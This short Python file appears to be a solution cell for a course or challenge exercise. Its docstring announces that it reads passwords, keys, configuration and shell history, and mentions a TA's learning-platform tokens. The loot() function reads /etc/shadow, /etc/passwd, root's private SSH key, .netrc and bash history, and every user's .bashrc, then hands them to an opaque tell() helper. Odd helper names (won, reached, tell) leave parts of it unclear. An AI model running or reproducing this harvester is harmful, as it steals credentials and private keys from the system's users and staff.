"""Reads what lies in a home: passwords, keys, configuration, the history of the shell.

Elsewhere: the TA's tokens for the learning platform.
"""

# %% solution="value"
import glob
import os

import known
from toolbox import each, reached, tell, won


def read(path):
    with open(path) as file:
        return won(file.read())


def loot():
    reached()
    real = [os.path.expanduser(f"~root/{name}") for name in (".bash_history", ".ssh/id_rsa", ".netrc")]
    return each(
        read, [known.HOME + "/.netrc", "/etc/shadow", "/etc/passwd", *real, *glob.glob("/home/*/.bashrc")]
    )


def attribute(prompt, x):
    return tell(loot)
